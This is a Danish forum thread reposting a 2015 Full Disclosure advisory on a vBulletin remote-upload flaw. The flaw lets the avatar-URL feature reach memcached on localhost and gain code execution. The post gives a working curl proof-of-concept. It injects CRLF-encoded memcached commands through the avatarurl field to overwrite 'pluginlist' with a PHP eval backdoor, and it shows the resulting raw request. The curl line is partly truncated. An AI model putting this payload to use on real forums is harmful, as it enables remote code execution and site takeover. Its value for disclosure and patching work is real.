Tråd bedømmelse:
  • 0 Stemmer - 0 Gennemsnit
  • 1
  • 2
  • 3
  • 4
  • 5
vBulletin < 4.2.2 rce "0day" (source: fd)
18-08-2015, 20:38
vBulletin < 4.2.2 rce "0day" (source: fd)

Denne er ikke ny, men jeg kendte personlig ikke til den før jeg læste den på FullDisclosure:

Status: Fixed in some versions.

Citer:Remote Upload allows to send arbitrary data to loopback-only services, possibly allowing the execution of arbitrary code Exists in vB4. The remote upload as implemented by the vB_Upload_* classes and vB_vURL (at least in vB 4.2.x, most probably earlier releases are also affected, and vB 5 might be affected as well) does not restrict the destination ports and hosts for remote uploads. This allows an attacker to abuse the function to as a proxy commit TCP port scans on other hosts. Much worse, it also allows to connect to local loopback-only services or to services only exposed on an internal network.

On a setup running e.g. Memcached in default configuration (bound to localhost:11211, no authentication), the latter can be exploited to execute arbitrary code by forging a request to memcached, updating the `pluginlist` value.

Proof-of-Concept using cURL:
$ curl '; -H 'Cookie: bb_userid=2;
bb_password=926944640049f505370a38250f22ae57' --data  'do=updateprofilepic&securitytoken=1384776835-db8ce45ef28d8e2fcc1796b012f0c9ca1cf49e38&avatarurl=http://localhost:11211/%0D%0Aset%20pluginlist%200%200%2096%0D%0Aa%3A1%3A%7Bs%3A12%3A%22global_start%22%3Bs%3A62%3A%22if%28isset%28%24_REQUEST%5B%27eval%27%5D%29%29%7Beval%28%24_REQUEST%5B%27eval%27%5D%29%3Bdie%28%29%3B%7D%0D%0A%22%3B%7D%0D%0Aquit%0D%0A.png'

This leads to vBulletin opening a connection to the Memcached (localhost:11211) and sending the following data:
set pluginlist 0 0 96
.png HTTP/1.0
Host: localhost
User-Agent: vBulletin via PHP
Connection: close

This will cause the Memcached to update the `pluginlist` to contain themalicious code.

Find allebeskeder fra denne bruger
Citer denne besked i et svar
« Ældre | Nyere »User(s) browsing this thread: 1 Gæst(er)